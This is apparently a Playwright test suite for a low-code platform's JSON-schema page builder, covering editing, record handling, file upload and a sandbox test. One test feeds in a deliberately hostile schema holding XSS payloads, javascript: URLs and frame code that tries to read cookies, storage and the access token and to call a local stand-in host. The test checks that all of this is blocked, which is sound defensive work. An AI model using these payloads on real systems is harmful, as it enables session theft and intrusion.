import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { expect, test } from '@playwright/test';
import { enter, watchForFaults } from '../support/app.ts';
import { findings } from '../support/axe.ts';

test('[B2.5] an administrator writes a page over a form, is told what is wrong with it, and its readers work with it', async ({
  page,
}) => {
  const faults = watchForFaults(page);
  const code = `amis_${Date.now() % 100_000_000}`;
  await enter(page, '/amis-page?form=add');
  const preview = page.frameLocator('iframe[title="预览"]');

  await test.step('sees it beside its schema, and faults with line and path', async () => {
    await page.getByRole('textbox', { name: '页面名称' }).fill('计量单位一览');
    await page.getByRole('textbox', { name: '编码' }).fill(code);
    await expect(preview.getByRole('cell', { name: 'PCS' })).toBeVisible();
    const editor = page.getByRole('textbox', { name: '页面配置（JSON）' });
    await editor.click();
    await page.keyboard.press('ControlOrMeta+Home');
    await page.keyboard.insertText('{"type":"custom"}');
    await expect(page.getByText('配置结束后还有多余的内容')).toBeVisible();
    await page.keyboard.press('ControlOrMeta+z');
    await expect(page.getByText('配置正确')).toBeVisible();
    expect(await findings(page)).toEqual([]);
    await page.getByRole('button', { name: '保存' }).click();
    await expect(page.getByText('保存成功！')).toBeVisible();
  });

  await test.step('adds a record in it, which is refused and then saved like in the form', async () => {
    await page.goto(`/amis-page/${code}`);
    const frame = page.frameLocator('iframe[title="计量单位一览"]');
    await frame.getByRole('button', { name: '新增' }).click();
    const dialog = frame.getByRole('dialog');
    await dialog.locator('input[name="code"]').fill('PCS');
    await dialog.locator('input[name="name"]').fill(`单位 ${code}`);
    await dialog.getByRole('button', { name: '确认' }).click();
    await expect(dialog.getByText(/已存在|重复/).first()).toBeVisible();
    await dialog.locator('input[name="code"]').fill(code);
    await dialog.getByRole('button', { name: '确认' }).click();
    await expect(dialog).toBeHidden();
    await frame.locator('input[name="name"]').fill(code);
    await frame.getByRole('button', { name: '搜索' }).click();
    await expect(frame.getByRole('cell', { name: 'PCS' })).toBeHidden();
    await expect(frame.getByRole('cell', { name: `单位 ${code}` })).toBeVisible();
  });

  await test.step('deletes the record in it, and the page in the list', async () => {
    const frame = page.frameLocator('iframe[title="计量单位一览"]');
    await frame.getByRole('button', { name: '删除' }).click();
    await frame.getByRole('dialog').getByRole('button', { name: '确认' }).click();
    await expect(frame.getByText('暂无数据')).toBeVisible();
    await page.goto(`/amis-page?q.code=${code}`);
    await page.getByRole('button', { name: '删除' }).click();
    await page.getByRole('dialog').getByRole('button', { name: '删除' }).click();
    await expect(page.getByText('删除成功！')).toBeVisible();
  });
  expect(faults).toEqual([]);
});

test('[TPL-04] [XSS-05] a hostile schema, and even hostile code in its frame, finds no token, no storage, no other origin and no page', async ({
  page,
}) => {
  const visits: string[] = [];
  const stranger = createServer((request, response) => {
    visits.push(request.url ?? '');
    response.setHeader('access-control-allow-origin', '*');
    response.end('window.parent.pwned = 1');
  });
  await new Promise<void>((ready) => stranger.listen(0, '127.0.0.1', ready));
  const { port } = stranger.address() as AddressInfo;
  const away = `http://127.0.0.1:${port}`;
  const code = 'window.parent.pwned = 1; parent.document.title = "pwned"';
  const schema = {
    type: 'page',
    title: 'hostile',
    initApi: `js:${away}/initApi`,
    body: [
      { type: 'service', api: `jsonp:${away}/jsonp` },
      { type: 'service', api: `${away}/api` },
      { type: 'service', api: '/sys/user/list' },
      { type: 'service', api: { url: '/sys/dict/getDictItems/sex', adaptor: code } },
      { type: 'service', ws: away.replace('http', 'ws') },
      { type: 'tpl', tpl: `<%= ${code} %>` },
      { type: 'tpl', tpl: 'x', visibleOn: `(function(){${code}; return true})()` },
      { type: 'image', src: `${away}/image` },
      { type: 'iframe', src: `${away}/iframe` },
      {
        type: 'html',
        html: `<img src=x onerror='${code}'><script>${code}</script><iframe srcdoc="<script>${code}</script>"></iframe>
          <style>@import url(${away}/import); body { background: url(${away}/css) }</style>
          <link rel="stylesheet" href="${away}/link"><link rel="prefetch" href="${away}/prefetch">
          <form action="${away}/form"><button id="leave">go</button></form>`,
      },
      { type: 'button', label: '出去', actionType: 'url', url: 'javascript:parent.pwned=1' },
      { type: 'tpl', tpl: '完' },
    ],
    onEvent: { init: { actions: [{ actionType: 'custom', script: code }] } },
  };
  try {
    // The check of schemas would refuse it; here it is as if that had a hole.
    await page.route('**/amisPage/view?*', (route) =>
      route.fulfill({
        json: {
          success: true,
          code: 200,
          message: '',
          timestamp: 0,
          result: { code: 'hostile', name: '恶意页面', schema: JSON.stringify(schema) },
        },
      }),
    );
    await enter(page, '/amis-page/hostile');
    const frame = page.frameLocator('iframe[title="恶意页面"]');
    await expect(frame.getByText('完')).toBeVisible();
    await expect(
      frame
        .getByText('页面不能使用该接口：/sys/user/list')
        .or(page.getByText('页面不能使用该接口：/sys/user/list'))
        .first(),
    ).toBeVisible();
    await frame.getByRole('button', { name: '出去' }).click();
    await expect(page.getByText('页面不能打开该地址：javascript:parent.pwned=1')).toBeVisible();
    await frame.locator('#leave').click();

    const kept = page.waitForEvent('console', (message) => message.text().includes("frame-src 'self'"));
    const inside = page.frames().find((one) => one.url().includes('/assets/amis-'));
    const found: unknown = await inside?.evaluate(attempts(away));
    expect(found).toEqual([]);
    expect(await page.evaluate(`'pwned' in window`)).toBe(false);
    await expect(page).toHaveTitle(/^(?!pwned)/);
    // The frame tries to leave a moment later; the page's own policy keeps it.
    await kept;
    expect(visits).toEqual([]);
  } finally {
    stranger.close();
  }
});

/** Code that runs in the frame itself and tells what it reached: the types of the tests know no browser. */
function attempts(away: string): string {
  return `(async () => {
    const none = () => { throw new Error('none'); };
    const tries = {
      origin: () => (self.origin === 'null' ? none() : self.origin),
      page: () => parent.document.title,
      storageOfThePage: () => parent.localStorage.length,
      address: () => top.location.href,
      cookie: () => document.cookie,
      token: () => localStorage.getItem('pro__Access-Token') ?? none(),
      database: () => indexedDB.open('a'),
      ours: () => fetch('/platform/sys/user/list'),
      other: () => fetch('${away}/fetch', { mode: 'no-cors' }),
      script: () => import('${away}/script.js'),
      code: () => new Function('return 1')(),
      popup: () => window.open('${away}/popup') ?? none(),
    };
    const reached = [];
    for (const [name, act] of Object.entries(tries)) {
      try {
        await act();
        reached.push(name);
      } catch {
        // As it should be.
      }
    }
    // A second port is not taken, whoever offers it.
    const { port1, port2 } = new MessageChannel();
    port1.onmessage = () => reached.push('port');
    window.postMessage('amis', '*', [port2]);
    port1.postMessage({ kind: 'ping' });
    await new Promise((resolve) => setTimeout(resolve, 100));
    setTimeout(() => (location.href = '${away}/leave'), 500);
    return reached;
  })()`;
}

test('[B2.5] [FIL-03] a page takes a file by the upload of the platform, and its frame learns no more than the path', async ({
  page,
}) => {
  const schema = {
    type: 'page',
    body: [
      {
        type: 'form',
        body: [{ type: 'input-file', name: 'paper', label: '附件', receiver: '/sys/common/upload' }, '路径 ${paper}'],
      },
    ],
  };
  await page.route('**/amisPage/view?*', (route) =>
    route.fulfill({
      json: {
        success: true,
        code: 200,
        message: '',
        timestamp: 0,
        result: { code: 'paper', name: '交文件', schema: JSON.stringify(schema) },
      },
    }),
  );
  await enter(page, '/amis-page/paper');
  const frame = page.frameLocator('iframe[title="交文件"]');
  const sent = page.waitForRequest('**/sys/common/upload');
  const file = { name: '合同.pdf', mimeType: 'application/pdf', buffer: Buffer.from('%PDF-1.4') };
  await frame.locator('input[type=file]').first().setInputFiles(file);
  expect((await sent).frame()).toBe(page.mainFrame());
  await expect(frame.getByText(/路径 \d{6}\/\w+\.pdf$/)).toBeVisible();
  const nothing = { ...file, buffer: Buffer.alloc(0) };
  await frame.locator('input[type=file]').first().setInputFiles(nothing);
  await expect(page.getByText('“合同.pdf”没有上传：文件是空的，请重新选择')).toBeVisible();
});
